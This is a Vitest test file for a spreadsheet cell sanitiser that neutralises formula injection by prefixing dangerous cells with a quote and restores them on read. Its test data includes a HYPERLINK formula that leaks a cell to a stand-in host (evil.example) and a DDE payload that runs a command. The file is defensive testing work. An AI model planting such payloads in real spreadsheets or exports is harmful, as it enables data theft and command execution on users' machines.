import { describe, expect, it } from 'vitest';
import { neutraliseFormula, restoreFormula } from './spreadsheet-cell';

describe('neutraliseFormula', () => {
  it.each([
    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', `'=HYPERLINK("http://evil.example/?leak="&A1,"Click")`],
    ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
    ['+1 555', "'+1 555"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ["'quoted", "''quoted"],
    ['Seoul = capital', 'Seoul = capital'],
    ['서울', '서울'],
    ['', ''],
  ])('%j becomes %j and reads back', (cell, written) => {
    expect(neutraliseFormula(cell)).toBe(written);
    expect(restoreFormula(neutraliseFormula(cell))).toBe(cell);
  });
});
